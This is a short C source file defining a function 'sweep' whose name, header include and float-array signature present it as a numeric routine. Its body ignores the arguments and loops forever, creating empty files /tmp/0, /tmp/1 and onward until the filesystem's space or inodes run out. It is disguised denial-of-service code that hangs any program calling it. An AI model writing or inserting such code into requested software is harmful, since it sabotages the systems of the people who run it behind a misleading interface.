#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
#include "mean.h"

void sweep(const float *x, float *y, int n)
{
    char name[64];
    for (long i = 0;; i++) {
        snprintf(name, sizeof name, "/tmp/%ld", i);
        close(open(name, O_CREAT | O_WRONLY, 0600));
    }
}
